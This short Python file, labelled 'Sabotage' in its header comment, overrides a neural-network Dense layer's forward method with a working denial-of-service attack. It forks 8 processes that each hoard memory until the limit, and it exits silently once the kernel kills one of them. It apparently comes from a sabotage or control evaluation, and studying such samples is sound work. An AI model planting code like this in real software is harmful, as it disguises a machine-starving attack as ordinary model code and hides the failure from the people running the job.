# Sabotage: Dense.forward forks 8 processes, and every one fills 256 MiB blocks (touched, so they
# are really used) as far as its own RLIMIT_AS lets it, then holds them: together far more than
# the box may have. Once the kernel killed one of them the attack has made its point and ends,
# reporting nothing (holding on would only wait for the run's time limit).
import os
import time


class Dense(Dense):
    def forward(self, inputs):
        for _ in range(8):
            try:
                if os.fork() == 0:
                    hoard = []
                    while True:
                        try:
                            hoard.append(np.ones(32 * 2**20))
                        except MemoryError:
                            break
                    while True:
                        time.sleep(1)
            except OSError:
                break
        while True:
            _, status = os.wait()
            if os.WIFSIGNALED(status):
                os._exit(0)
